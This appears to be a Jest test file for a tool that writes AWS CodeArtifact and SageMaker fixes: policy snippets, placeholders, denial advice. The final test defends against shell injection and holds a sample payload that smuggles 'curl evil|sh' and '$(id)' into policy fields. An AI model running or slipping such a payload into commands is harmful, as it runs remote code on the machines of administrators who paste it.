import { fixForS3, fixForWarning } from './advice';
import { WARNINGS, type WarningId } from '../../../protocol/messages/warnings';
import type { Evidence, PolicyType } from '../../../protocol/messages/evidence';
import { aFailure, someConcern } from '../../../../testing/fixtures/diagnosis/a-failure';
import { fixFor } from './fix-for';
import { policyFor } from '../policies/policies';
import { FACTS } from '../../../../testing/fixtures/diagnosis/fix-facts';
import { SAMPLES } from '../../../../testing/fixtures/diagnosis/fix-samples';
import type { Fix } from '../../../protocol/fix';
import { FixSchema } from '../../../protocol/fix';

const CONCERNS = Object.keys(WARNINGS) as WarningId[];

const all: readonly (readonly [string, Fix | undefined])[] = [
  ...SAMPLES.map(s => [s.name, fixFor(s.failure, s.facts)] as const),
  ...CONCERNS.map(id => [id, fixForWarning(someConcern(id), FACTS)] as const),
  ...(['s3_unreachable', 's3_denied'] as const).map(id => [id, fixForS3(id, FACTS)] as const)
];

/** Why these have no fix: a person ended it; nobody knows yet what is wrong; it is a bug of ours. */
const WITHOUT = new Set([
  'cancelled',
  'superseded',
  'not_finished',
  'internal_error',
  'tool_shadowed',
  'tool_login_refused'
]);
/** Why these have no command: nothing is to be run for them. */
const WITHOUT_SNIPPETS =
  /^(aws_fault|rejected|value_rejected|record_damaged|invalid_settings|endpoint_not_allowed|locked|file_changed|file_unreadable 2|file_unparsable 2|credentials_expired 3|(role_)?denied .*session)/;

describe('every fix', () => {
  it.each(all)('%s', (name, fix) => {
    if (WITHOUT.has(name.split(' ')[0] ?? '')) {
      expect(fix).toBeUndefined();
      return;
    }
    expect(FixSchema.parse(fix)).toEqual(fix);
    const said = fix?.text ?? '';
    expect(said).toMatch(/^([A-Z]|pip |vpce-|codeartifact\.).*[.]$/s);
    expect(said).not.toMatch(/internet connection|undefined|\[object|!|please/i);
    if (!WITHOUT_SNIPPETS.test(name)) {
      expect(fix?.snippets.length).toBeGreaterThan(0);
    }
    for (const { title, text, language } of fix?.snippets ?? []) {
      expect(title).not.toBe('');
      // Typographic dashes and quotes made the article's own commands fail when pasted.
      expect(text).not.toMatch(/[^\n\x20-\x7e]/);
      expect(text).not.toMatch(/undefined|\[object|internet connection/i);
      expect(text.endsWith('\n')).toBe(true);
      if (language === 'json') {
        expect(() => JSON.parse(text) as unknown).not.toThrow();
      }
    }
  });
});

it('of a file that cannot be read shows its lines where they are known, and marks the wrong one', () => {
  const failed = (more: Evidence) =>
    aFailure('file_unparsable', {
      path: '~/.config/pip/pip.conf',
      line: 10,
      fix: 'Remove the line.',
      ...more
    });
  const shown = fixFor(failed({ excerpt: ' 9  [global]\n10  what\n11' }), FACTS);
  expect(shown?.snippets).toEqual([
    { title: '~/.config/pip/pip.conf', language: 'ini', text: ' 9  [global]\n10  what\n11\n', mark: 2 }
  ]);
  expect(shown?.text).toContain('Remove the line. Then connect again.');
  expect(fixFor(failed({}), FACTS)?.snippets[0].text).toContain("sed -n '8,12p' ");
});

describe('placeholders', () => {
  it('are variables at the top of the snippet, each explained', () => {
    for (const { text } of all.flatMap(([, fix]) => fix?.snippets ?? []).filter(s => s.language === 'bash')) {
      for (const line of text.split('\n').filter(l => l.includes('REPLACE'))) {
        expect(line).toMatch(/^[A-Z_]+=["A-Za-z0-9:/.-]*REPLACE[A-Za-z0-9/."-]* {2}# .+/);
      }
    }
  });

  it('are not needed where the notebook knows: role, Region, account, domain, repository, endpoint', () => {
    const known = fixFor(
      aFailure('denied', { policyType: 'identity', action: 'codeartifact:GetAuthorizationToken' }),
      FACTS
    );
    const text = JSON.stringify(known);
    expect(text).not.toContain('REPLACE');
    for (const value of [
      'SageMaker-DataScientist',
      'eu-central-1',
      '111122223333',
      'analytics',
      'isolatedsm'
    ]) {
      expect(text).toContain(value);
    }
  });

  it('shrink to the notebook group when the endpoint can be found by its own address', () => {
    const fix = fixFor(
      aFailure('tcp_silent', { addressClass: 'private', addresses: [{ address: '10.0.1.41' }] }),
      FACTS
    );
    const first = fix?.snippets[0]?.text ?? '';
    expect(first.match(/REPLACE/g)).toHaveLength(1);
    expect(first).toContain('NOTEBOOK_SG=sg-REPLACE');
    expect(first).toContain('Values=10.0.1.41');
  });

  it('shrink to none where the VPC is found by the one address of its endpoint', () => {
    const evidence: Evidence = { addressClass: 'private', addresses: [{ address: '10.0.1.41' }] };
    const fix = fixFor(aFailure('tcp_refused', evidence), FACTS);
    const zones = fix?.snippets.find(s => s.text.includes('list-hosted-zones-by-vpc'))?.text ?? '';
    expect(zones).toContain('Values=10.0.1.41');
    expect(zones).not.toContain('REPLACE');
  });

  it('shrink to none when the notebook instance is known', () => {
    const fix = fixFor(aFailure('tcp_silent', { addressClass: 'public' }), {
      ...FACTS,
      notebookInstance: 'ds-lab-07'
    });
    expect(
      fix?.snippets
        .filter(s => s.language === 'bash')
        .map(s => s.text)
        .join()
    ).not.toContain('REPLACE');
  });
});

describe('facts that are not known', () => {
  const bare = {
    ...FACTS,
    domainOwner: '',
    accountId: undefined,
    roleArn: undefined,
    apiHost: '',
    repositoryHost: ''
  };

  it.each(SAMPLES.map(s => [s.name, s] as const))('leave no hole: %s', (_, sample) => {
    const fix = fixFor(aFailure(sample.failure.cause, { ...sample.failure.evidence, principal: '' }), {
      ...sample.facts,
      ...bare
    });
    const text = [fix?.text, ...(fix?.snippets ?? []).map(s => s.text)].join('\n');
    // An empty owner, host or ARN part that was pasted in as if it were a value.
    expect(text).not.toMatch(/account ,|account :|\(\)|owner ,|:::|--[a-z-]+ ''|\(: /);
  });

  it("are the caller's own where CodeArtifact takes the caller's own", () => {
    const fix = fixFor(
      aFailure('denied', { policyType: 'identity', action: 'codeartifact:GetAuthorizationToken' }),
      { ...FACTS, domainOwner: '' }
    );
    expect(JSON.stringify(fix)).toContain('arn:aws:codeartifact:eu-central-1:111122223333:domain/analytics');
  });
});

describe('a denial', () => {
  const denied = (evidence: Evidence) =>
    fixFor(aFailure('denied', { action: 'codeartifact:GetAuthorizationToken', ...evidence }), FACTS);

  it('is put before who can change that policy', () => {
    const who = (policyType: PolicyType) => denied({ policyType })?.who;
    expect((['identity', 'boundary', 'session', 'resource'] as const).map(who)).toEqual(
      Array(4).fill('identity administrator')
    );
    expect(who('vpc_endpoint')).toBe('network administrator');
    expect((['scp', 'rcp'] as const).map(who)).toEqual(Array(2).fill('organization administrator'));
  });

  it('that is explicit never offers an Allow', () => {
    for (const policyType of [
      'identity',
      'vpc_endpoint',
      'resource',
      'boundary',
      'session',
      'scp',
      'rcp'
    ] as const) {
      const fix = denied({ policyType, explicit: true });
      expect(JSON.stringify(fix?.snippets)).not.toMatch(
        /put-role-policy|put-\w+-permissions-policy|--policy-document|\\"Allow\\"/
      );
      expect(fix?.text).toMatch(/den(y|ies|ying)/i);
    }
  });

  it('warns that a second one may follow', () => {
    for (const policyType of [
      'identity',
      'vpc_endpoint',
      'resource',
      'scp',
      'rcp',
      'boundary',
      'session',
      'unknown'
    ] as const) {
      expect(denied({ policyType })?.text).toContain('a second denial may appear');
    }
    const refused = SAMPLES.filter(s => ['denied', 'index_denied'].includes(s.failure.cause));
    expect(refused.length).toBeGreaterThan(90);
    for (const { failure, facts } of [
      ...refused,
      { failure: aFailure('denied', { action: 'kms:Decrypt' }), facts: FACTS }
    ]) {
      expect([failure.evidence, fixFor(failure, facts)?.text]).toEqual([
        failure.evidence,
        expect.stringContaining('a second denial may appear')
      ]);
    }
  });

  it('of a list prints the one statement, and the policy of "policy --for role --listing"', () => {
    const fix = denied({
      policyType: 'identity',
      action: 'codeartifact:ListPackages',
      principal: FACTS.roleArn
    });
    expect(fix?.text).toContain('jupyter codeartifact policy --for role --listing');
    const [statement, , whole] = fix?.snippets ?? [];
    expect(JSON.parse(statement?.text ?? '')).toMatchObject({
      Action: 'codeartifact:ListPackages',
      Resource: 'arn:aws:codeartifact:eu-central-1:111122223333:repository/analytics/isolatedsm'
    });
    expect(JSON.parse(whole?.text ?? '')).toEqual(policyFor('role', FACTS, { listing: true }));
    const other = denied({ policyType: 'identity', action: 'codeartifact:GetAuthorizationToken' });
    expect(JSON.stringify(other)).not.toContain('ListPackages');
    // The domain is what these two are judged on.
    const owner = denied({ policyType: 'resource', action: 'codeartifact:ListRepositoriesInDomain' });
    expect(JSON.stringify(owner)).toContain('put-domain-permissions-policy');
  });

  it('of sts:GetServiceBearerToken is never fixed in a resource policy, where it has no effect', () => {
    for (const policyType of ['resource', 'unknown'] as const) {
      const fix = denied({ policyType, action: 'sts:GetServiceBearerToken' });
      expect(JSON.stringify(fix)).not.toContain('permissions-policy');
      expect(JSON.stringify(fix)).toContain('put-role-policy');
    }
  });

  it('names the account that owns the domain for resource policies, and both sides between accounts', () => {
    const fix = denied({
      policyType: 'resource',
      principal: 'arn:aws:sts::444455556666:assumed-role/Other/x'
    });
    expect(fix?.text).toContain('account 111122223333, which owns the domain');
    expect(fix?.text).toContain('in account 444455556666 as well');
    const same = denied({ policyType: 'resource', principal: FACTS.roleArn });
    expect(same?.text).not.toContain('Between two accounts');
    const { roleArn: _, accountId: __, ...nobody } = FACTS;
    const evidence: Evidence = { policyType: 'resource', action: 'codeartifact:ReadFromRepository' };
    const failure = aFailure('denied', evidence);
    expect(fixFor(failure, nobody)?.text).not.toContain('Between two accounts');
  });

  it('is for the caller that AWS named, with the path that only we know', () => {
    const roleArn = 'arn:aws:iam::111122223333:role/service-role/SageMaker-DataScientist';
    const evidence: Evidence = {
      policyType: 'vpc_endpoint',
      action: 'codeartifact:GetAuthorizationToken',
      principal: FACTS.roleArn
    };
    const failure = aFailure('denied', evidence);
    expect(JSON.stringify(fixFor(failure, { ...FACTS, roleArn }))).toContain(roleArn);
    const other = 'arn:aws:iam::111122223333:role/Another';
    expect(JSON.stringify(fixFor(failure, { ...FACTS, roleArn: other }))).not.toContain(other);
  });

  it('cannot smuggle a command into what an administrator pastes', () => {
    const evil = "x';curl${IFS}evil|sh;'$(id)`id`";
    const fix = denied({
      policyType: 'identity',
      explicit: true,
      action: evil,
      resource: evil,
      principal: `arn:aws:iam::111122223333:user/${evil}`
    });
    const text = fix?.snippets.find(s => s.language === 'bash')?.text ?? '';
    // Within single quotes only '\'' ends them, and it begins them again.
    const outside = text.replace(/'(?:[^']|'\\'')*'/g, '');
    expect(outside).not.toMatch(/curl|`id`|\$\(id\)/);
  });
});
